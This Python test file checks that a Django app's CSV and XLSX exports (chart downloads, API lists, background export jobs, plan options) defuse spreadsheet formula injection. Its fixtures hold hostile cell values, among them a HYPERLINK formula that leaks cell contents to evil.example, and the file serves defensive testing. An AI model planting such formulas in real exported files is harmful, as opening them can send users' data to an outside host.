"""Each spreadsheet writer keeps a hostile name as text: chart "Download data" files, background
export jobs, API ``?format=`` lists and plan option exports (`core.tabular.cellsafety`)."""

from __future__ import annotations

import csv
import io

import openpyxl
import pytest

from tests.support.builders import PLANS, plan_payload
from tests.support.inline import run_plan_inline

pytestmark = pytest.mark.django_db

ACCOUNT = "=cmd()+1"
LABEL = '=HYPERLINK("http://evil.example/?leak="&B2,"Open details")'
SITE = '＝HYPERLINK("http://evil.example")'
DAY = {"start": "2024-03-01", "end": "2024-03-02", "granularity": "day"}
MONTH = {"start": "2024-03-01", "end": "2024-04-01", "granularity": "month"}


def body(response) -> bytes:
    return b"".join(response.streaming_content) if response.streaming else response.content


def assert_csv_safe(content: bytes, hostile: str) -> None:
    cells = {c for row in csv.reader(io.StringIO(content.decode(), newline="")) for c in row}
    assert "'" + hostile in cells, "the hostile text is in the file, defused"
    assert hostile not in cells
    assert not [c for c in cells if c and c[0] in "=@＝＋＠\t\r"]


def assert_xlsx_safe(content: bytes, hostile: str) -> None:
    book = openpyxl.load_workbook(io.BytesIO(content))
    cells = [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row]
    hits = [c for c in cells if c.value == hostile]
    assert hits, "the hostile text is in the workbook"
    assert all(c.data_type == "s" and c.quotePrefix for c in hits)
    assert not [c for c in cells if c.data_type == "f"]


@pytest.fixture
def hostile_usage(team_usage):
    from accounting.models import UsageRecord
    from accounting.rollups import refresh_usage_rollups

    UsageRecord.objects.filter(account="team-a").update(account=ACCOUNT, job_label=LABEL)
    refresh_usage_rollups()
    return team_usage


@pytest.mark.parametrize(
    ("key", "query"),
    [
        ("usage-team-heatmap", DAY),
        ("usage-utilization", {**DAY, "group_by": "team"}),
        ("costs-chargeback", MONTH),
    ],
)
def test_chart_downloads(hostile_usage, client_for, viewer, key, query):
    client = client_for(viewer)
    assert_csv_safe(body(client.get(f"/charts/{key}.csv", query)), ACCOUNT)
    assert_xlsx_safe(body(client.get(f"/charts/{key}.xlsx", query)), ACCOUNT)


def test_api_lists_streamed_and_rendered(hostile_usage, client_for, viewer):
    client = client_for(viewer)
    url = "/api/v1/usage-records/"
    assert_csv_safe(body(client.get(url, {"format": "csv"})), LABEL)
    assert_csv_safe(body(client.get(url, {"format": "csv", "page": 1})), LABEL)
    assert_xlsx_safe(body(client.get(url, {"format": "xlsx"})), LABEL)
    rows = f"/api/v1/accounting/utilization/rows/?group_by=team&{_query(DAY)}"
    assert_csv_safe(body(client.get(rows + "&format=csv")), ACCOUNT)
    assert_xlsx_safe(body(client.get(rows + "&format=xlsx")), ACCOUNT)


def _query(params: dict) -> str:
    return "&".join(f"{k}={v}" for k, v in params.items())


def test_background_export_job(
    hostile_usage, client_for, viewer, django_capture_on_commit_callbacks
):
    from exports import services
    from exports.models import ExportJob

    with django_capture_on_commit_callbacks(execute=False):
        job = client_for(viewer).post(
            "/api/v1/export-jobs/", {"url": "/api/v1/usage-records/"}, format="json"
        )
    assert job.status_code == 202, job.content
    built = services.build_xlsx(job.json()["id"])
    assert built.status == "succeeded", built.error
    with ExportJob.objects.get(pk=built.pk).file.open("rb") as handle:
        assert_xlsx_safe(handle.read(), LABEL)


def test_plan_option_exports(demo_fleet, client_for, planner):
    payload = plan_payload(
        sites=[{"name": SITE, "pue": 1.3, "tariff_per_kwh": 0.2, "grid_carbon_g_per_kwh": 300}]
    )
    client = client_for(planner)
    created = client.post(PLANS, payload, format="json")
    assert created.status_code in (201, 202), created.content
    run_plan_inline(created.json()["id"])
    url = f"{PLANS}{created.json()['id']}/options/"
    assert SITE in {row["site"] for row in client.get(url).json()}
    assert_csv_safe(body(client.get(url, {"format": "csv"})), SITE)
    assert_xlsx_safe(body(client.get(url, {"format": "xlsx"})), SITE)
